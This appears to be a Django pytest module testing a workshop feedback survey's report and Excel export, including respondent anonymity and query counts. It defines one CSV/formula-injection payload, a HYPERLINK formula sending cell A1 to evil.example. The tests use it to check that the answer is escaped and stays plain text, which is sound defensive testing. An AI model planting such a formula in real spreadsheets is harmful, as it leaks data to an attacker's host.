"""The feedback survey's results: the report's distributions and open answers, and the export's Feedback sheet."""

from __future__ import annotations

import zipfile

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from facilitation import services
from facilitation.models import FeedbackAnswer, SurveyQuestion
from reports.selectors_feedback import feedback_report
from reports.workbook import build_workbook
from tests.facilitation.conftest import viewer_of
from tests.workshops.factories import ParticipantFactory

pytestmark = pytest.mark.django_db
NAMES = ["Kanarialintu Vastaaja", "Bertta Berg", "Cecilia Hiljainen", "Daniel Poissa"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def kinds(workshop) -> dict[str, list[SurveyQuestion]]:
    found: dict[str, list[SurveyQuestion]] = {}
    for question in SurveyQuestion.objects.filter(workshop=workshop).order_by("position", "id"):
        found.setdefault(question.kind, []).append(question)
    return found


def answer(workshop, person, *, rating=None, worked="", improve="", again="", language="fi"):
    questions = kinds(workshop)
    worked_q, improve_q = questions["text"]
    answers = {
        questions["rating"][0].pk: rating,
        worked_q.pk: worked,
        improve_q.pk: improve,
        questions["yes_no"][0].pk: again,
    }
    return services.feedback_submit(viewer=viewer_of(workshop, participant=person), answers=answers, language=language)


@pytest.fixture
def answered(live_workshop, facilitator, django_capture_on_commit_callbacks):
    """A closed English workshop with four anonymous responses, one of them a formula."""
    workshop = live_workshop
    workshop.language = "en"
    workshop.save(update_fields=["language"])
    services.survey_ensure(workshop=workshop)
    with django_capture_on_commit_callbacks(execute=True):
        services.live_close(workshop=workshop, by=facilitator)
    workshop.refresh_from_db()
    people = [ParticipantFactory(workshop=workshop, name=name) for name in NAMES]
    answer(workshop, people[0], rating=5, worked="Selkeä rakenne", again="yes")
    answer(workshop, people[1], rating=4, worked="Hyvät tapausesimerkit", improve="Lisää taukoja", again="yes")
    answer(workshop, people[2], rating=4, improve=EVIL, again="unsure", language="sv")
    answer(workshop, people[3], rating=2, again="no", language="en")
    return workshop


def signed_in(user) -> Client:
    client = Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(user)
    return client


# --- the report ---------------------------------------------------------------------------------
def test_the_results_have_distributions_open_answers_and_the_count(answered):
    with translation.override("en"):
        report = feedback_report(answered)
    assert report.responses == 4
    rating, worked, improve, again = report.questions
    assert rating.kind == "rating" and rating.counts == {5: 1, 4: 2, 2: 1} and rating.answered == 4
    assert rating.mean == 3.8
    assert [(row.label, row.value) for row in rating.chart.rows] == [("1", 0), ("2", 1), ("3", 0), ("4", 2), ("5", 1)]
    assert [(row.label, row.value) for row in again.chart.rows] == [("Yes", 2), ("No", 1), ("Not sure", 1)]
    assert sorted(worked.texts) == ["Hyvät tapausesimerkit", "Selkeä rakenne"] and worked.chart is None
    assert sorted(improve.texts) == sorted(["Lisää taukoja", EVIL])


def test_nobody_answered_means_no_section(live_workshop):
    services.survey_ensure(workshop=live_workshop)
    assert feedback_report(live_workshop) is None


def test_the_report_page_shows_the_feedback_and_no_names(answered, facilitator):
    response = signed_in(facilitator).get(reverse("reports:report", args=[answered.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    section = page[page.index('id="report-feedback-title"') :]
    section = section[: section.index("</section>\n</section>") if "</section>\n</section>" in section else None]
    assert "Responses" in section and "<dd>4</dd>" in section
    assert 'id="chart-feedback-1-title"' in section and 'id="chart-feedback-4-title"' in section
    assert "Overall, how would you rate the workshop?" in section and "average 3.8 out of 5" in section
    assert "Selkeä rakenne" in section and "Lisää taukoja" in section
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)" in section
    for name in NAMES:
        assert name not in page


def test_answers_to_a_removed_question_stay_in_the_results(answered):
    worked = kinds(answered)["text"][0]
    services.question_delete(question=worked)
    report = feedback_report(answered)
    removed = [result for result in report.questions if result.removed]
    assert len(removed) == 1 and removed[0].text == "What worked?"
    assert sorted(removed[0].texts) == ["Hyvät tapausesimerkit", "Selkeä rakenne"]


def test_the_results_cost_the_same_queries_for_few_and_many_responses(answered, django_assert_num_queries):
    with django_assert_num_queries(3):
        feedback_report(answered)
    for number in range(30):
        answer(answered, ParticipantFactory(workshop=answered), rating=number % 5 + 1, worked=f"Vastaus {number}")
    with django_assert_num_queries(3):
        report = feedback_report(answered)
    assert report.responses == 34


# --- the export ---------------------------------------------------------------------------------
def built(workshop, tmp_path, language="en"):
    path = tmp_path / f"feedback-{language}.xlsx"
    build_workbook(workshop, path, language=language)
    return path


def test_the_feedback_sheet_has_a_row_per_response_and_a_column_per_question(answered, tmp_path):
    path = built(answered, tmp_path)
    book = load_workbook(path)
    assert "Feedback" in book.sheetnames
    rows = [[cell.value for cell in row] for row in book["Feedback"].iter_rows()]
    assert rows[0] == [
        "Date",
        "Language",
        "Overall, how would you rate the workshop?",
        "What worked?",
        "What could be improved?",
        "Would you use this method again?",
    ]
    data = rows[1:]
    assert len(data) == 4
    today = timezone.localdate()
    assert {row[0].date() for row in data} == {today}
    assert sorted(row[1] for row in data) == ["English", "Finnish", "Finnish", "Swedish"]
    assert sorted((row[2], row[5]) for row in data) == [(2, "No"), (4, "Not sure"), (4, "Yes"), (5, "Yes")]
    assert sorted(row[3] for row in data if row[3]) == ["Hyvät tapausesimerkit", "Selkeä rakenne"]
    assert sorted(row[4] for row in data if row[4]) == sorted(["Lisää taukoja", EVIL])


def test_an_answer_that_looks_like_a_formula_stays_text(answered, tmp_path):
    path = built(answered, tmp_path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    sheet = load_workbook(path)["Feedback"]
    evil = next(cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix


def test_the_workbook_names_nobody_who_answered(answered, tmp_path):
    path = built(answered, tmp_path)
    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))
    assert "Selkeä rakenne" in xml  # the answers are there ...
    for name in NAMES:
        assert name not in xml  # ... and none of the people who gave them


def test_the_sheet_follows_the_language_and_keeps_removed_questions(answered, tmp_path):
    services.question_delete(question=kinds(answered)["text"][0])
    path = built(answered, tmp_path, language="fi")
    book = load_workbook(path)
    title = "Palaute" if "Palaute" in book.sheetnames else "Feedback"  # "Palaute" once translated
    header = [cell.value for cell in next(book[title].iter_rows())]
    assert header[-1] == "What worked?"  # removed: after the survey's own questions
    assert sorted(v for v in (row[-1].value for row in list(book[title].iter_rows())[1:]) if v) == [
        "Hyvät tapausesimerkit",
        "Selkeä rakenne",
    ]


def test_no_survey_no_sheet_and_an_unanswered_survey_says_so(live_workshop, tmp_path):
    path = built(live_workshop, tmp_path)
    assert "Feedback" not in load_workbook(path).sheetnames
    services.survey_ensure(workshop=live_workshop)
    path = built(live_workshop, tmp_path)
    values = [cell.value for row in load_workbook(path)["Feedback"].iter_rows() for cell in row]
    assert "Nobody has answered the feedback survey yet." in values
    assert not FeedbackAnswer.objects.exists()
